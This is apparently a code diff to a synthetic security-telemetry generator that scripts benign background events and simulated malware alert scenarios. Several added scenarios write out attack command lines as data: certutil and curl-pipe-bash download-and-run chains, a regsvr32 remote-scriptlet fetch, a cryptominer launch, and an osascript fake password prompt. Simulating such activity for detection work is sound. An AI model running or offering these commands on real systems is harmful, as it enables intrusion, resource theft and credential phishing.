@@ -417,6 +417,21 @@ BACKGROUND: dict[str, Script] = {
         ],
         per_day=0.3,
     ),
+    "mail_link": Script([E("OUTLOOK", "BrowserLaunchedToOpenUrl", RemoteUrl="https://{pool:benign_urls}/news/{n:100-999}")], role="workstation", per_day=0.8),
+    "smartscreen": Script(
+        [
+            E("EXPLORER", "SmartScreenUrlWarning", RemoteUrl="http://{pool:benign_urls}.{hex:4}.xyz/"),
+            E("EXPLORER", "SmartScreenUserOverride", at=20, RemoteUrl="http://{pool:benign_urls}.{hex:4}.xyz/"),
+        ],
+        role="workstation", per_day=0.05,
+    ),
+    "listen": Script([N("SVCHOST", "", "", port="0", action="ListeningConnectionCreated")], per_day=0.5, hours=(0, 24)),
+    "inbound": Script([N("SVCHOST", "", "10.1.{n:0-3}.{n:2-250}", port="3389", action="InboundConnectionAccepted")], role="server", per_day=3.0, hours=(0, 24)),
+    "inbound_sql": Script([N("SQL", "", "10.1.{n:0-3}.{n:2-250}", port="1433", action="InboundConnectionAccepted")], role="server", per_day=2.0, hours=(0, 24)),
+    "internet_scan": Script(
+        [N("SYSTEM", "", "{pool:web_ips}", port="3389", action="InboundInternetScanInspected", fields={"AdditionalFields": '{{"PublicScannedIp":"{pool:web_ips}","PublicScannedPort":3389}}'})],
+        role="server", per_day=0.3, hours=(0, 24),
+    ),
     "dns": Script([E("SVCHOST", "DnsQueryResponse", AdditionalFields='{{"DnsQueryString":"{pool:dns_names}","DnsQueryResult":[{{"DnsQueryType":"A"}}]}}')], per_day=4.0, hours=(0, 24)),
     "logon_net": Script([L("LSASS", "Network", RemoteIP="10.1.{n:0-3}.{n:2-250}", Protocol="Kerberos")], per_day=2.0, hours=(0, 24)),
     "logon_fail": Script([L("LSASS", "Network", action="LogonFailed", FailureReason="InvalidUserNameOrPassword", RemoteIP="10.1.{n:0-3}.{n:2-250}", Protocol="NTLM")], per_day=0.3, hours=(0, 24)),
@@ -461,11 +476,13 @@ STORIES: dict[str, Script] = {
     ),
     "'Wacatac' malware was detected": Script(
         [
-            P("msedge.exe", cmd='"msedge.exe" --single-argument https://{urlhost}/x'),
-            F(0, "C:\\Users\\{user}\\Downloads\\", "{file}", at=20, fields={"FileOriginUrl": "{url}", "FileOriginIP": "{ip}"}),
-            P("{file}", cmd='"C:\\Users\\{user}\\Downloads\\{file}" ', at=60, evidence=True),
-            N(2, "{urlhost}", "{ip}", at=65),
-            E(2, "AntivirusDetection", at=70, FileName="{file}", FolderPath="C:\\Users\\{user}\\Downloads\\{file}", AdditionalFields='{{"ThreatName":"{family}","WasRemediated":true}}'),
+            P("cmd.exe", cmd='"cmd.exe" /c certutil -urlcache -split -f http://{urlhost}/{file} %TEMP%\\{file} && %TEMP%\\{file}'),
+            P("certutil.exe", parent=0, cmd="certutil  -urlcache -split -f http://{urlhost}/{file} C:\\Users\\{user}\\Downloads\\{file}", at=1),
+            N(1, "{urlhost}", "{ip}", port="80", at=2),
+            F(1, "C:\\Users\\{user}\\Downloads\\", "{file}", at=20, fields={"FileOriginUrl": "http://{urlhost}/{file}", "FileOriginIP": "{ip}"}),
+            P("{file}", parent=0, cmd='"C:\\Users\\{user}\\Downloads\\{file}" ', at=60, evidence=True),
+            N(4, "{urlhost}", "{ip}", at=65),
+            E(4, "AntivirusDetection", at=70, FileName="{file}", FolderPath="C:\\Users\\{user}\\Downloads\\{file}", AdditionalFields='{{"ThreatName":"{family}","WasRemediated":true}}'),
             F("SYSTEM", "C:\\Users\\{user}\\Downloads\\", "{file}", action="FileDeleted", at=75),
         ]
     ),
@@ -486,6 +503,8 @@ STORIES: dict[str, Script] = {
             P("rundll32.exe", cmd="rundll32.exe C:\\Users\\Public\\{file},StartW", evidence=True),
             I(1, "{file}", at=0.5),
             N(1, "{urlhost}", "{ip}", at=5, repeat=48, every=60, jitter=4, fields={"AdditionalFields": '{{"direction":"Out","uri":"{pool:c2_paths}"}}'}),
+            E(1, "NamedPipeEvent", at=4, AdditionalFields='{{"PipeName":"\\\\Device\\\\NamedPipe\\\\postex_{hex:4}","FileOperation":"File created"}}'),
+            N(1, "{urlhost}", "{ip}", at=6, action="NetworkSignatureInspected", fields={"AdditionalFields": '{{"SignatureName":"HTTP_Client","SignatureMatchedContent":"GET {pool:c2_paths} HTTP/1.1"}}'}),
             P("cmd.exe", parent=1, cmd="cmd.exe /c whoami /priv & ipconfig /all", at=300),
             P("nltest.exe", parent=4, cmd="nltest  /dclist:contoso.local", at=302),
         ]
@@ -496,6 +515,8 @@ STORIES: dict[str, Script] = {
             E(0, "CreateRemoteThreadApiCall", at=5, FileName="explorer.exe", FolderPath="C:\\Windows\\explorer.exe"),
             E(0, "OpenProcessApiCall", at=4, FileName="explorer.exe", FolderPath="C:\\Windows\\explorer.exe", AdditionalFields='{{"DesiredAccess":"0x1f0fff"}}'),
             E(0, "ReadProcessMemoryApiCall", at=6, FileName="explorer.exe"),
+            E(0, "QueueUserApcRemoteApiCall", at=5.5, FileName="explorer.exe", FolderPath="C:\\Windows\\explorer.exe"),
+            E(0, "NtAllocateVirtualMemoryRemoteApiCall", at=4.5, FileName="explorer.exe", FolderPath="C:\\Windows\\explorer.exe"),
             N("EXPLORER", "{urlhost}", "{ip}", at=30),
         ]
     ),
@@ -505,6 +526,8 @@ STORIES: dict[str, Script] = {
             R(0, RUN_KEY, "Updater", "C:\\Users\\{user}\\AppData\\Roaming\\{file}", at=0.5),
             P("schtasks.exe", cmd='schtasks  /create /tn "Microsoft\\Windows\\Updater" /tr "C:\\Users\\{user}\\AppData\\Roaming\\{file}" /sc onlogon /rl highest /f', at=30),
             E("SVCHOST", "ScheduledTaskCreated", at=31, AdditionalFields='{{"TaskName":"\\\\Microsoft\\\\Windows\\\\Updater"}}'),
+            P("regsvr32.exe", cmd="regsvr32.exe /s /n /u /i:http://{ip}/file.sct scrobj.dll", at=60),
+            N(4, "", "{ip}", port="80", at=61),
         ]
     ),
     "Possible data exfiltration with rclone": Script(
@@ -580,6 +603,29 @@ def story_for(title: str, category: str) -> str:
 
 
 STORIES["__lolbin"] = _LOLBIN_STORY
+#: Alerts on Linux and macOS devices: a download-and-run chain in the shell.
+STORIES["__linux"] = Script(
+    [
+        P("bash", parent="SSHD", cmd="bash -c \"curl -fsSL http://{ip}/x.sh | bash\"", account="root"),
+        P("curl", parent=0, cmd="curl -fsSL http://{ip}/x.sh", at=1, account="root"),
+        N(1, "{urlhost}", "{ip}", port="80", at=2),
+        F(0, "/tmp/", "{file}", at=5),
+        P("{file}", parent=0, cmd="/tmp/{file} -o stratum+tcp://{urlhost}:3333 --donate-level 1", at=10, evidence=True, account="root"),
+        N(4, "{urlhost}", "{ip}", port="3333", at=12, repeat=12, every=300, jitter=20),
+    ],
+    platform="linux",
+)
+STORIES["__macos"] = Script(
+    [
+        P("zsh", parent="LAUNCHD", cmd="/bin/zsh -c \"curl -s http://{ip}/u -o /tmp/{file}; chmod +x /tmp/{file}\""),
+        P("curl", parent=0, cmd="curl -s http://{ip}/u -o /tmp/{file}", at=1),
+        N(1, "{urlhost}", "{ip}", port="80", at=2),
+        F(1, "/tmp/", "{file}", at=3),
+        P("{file}", parent=0, cmd="/tmp/{file}", at=10, evidence=True),
+        P("osascript", parent=4, cmd="osascript -e 'display dialog \"Update\" default answer \"\" with hidden answer'", at=20),
+    ],
+    platform="macos",
+)
 
 
 def binary(key: str) -> Binary | None:
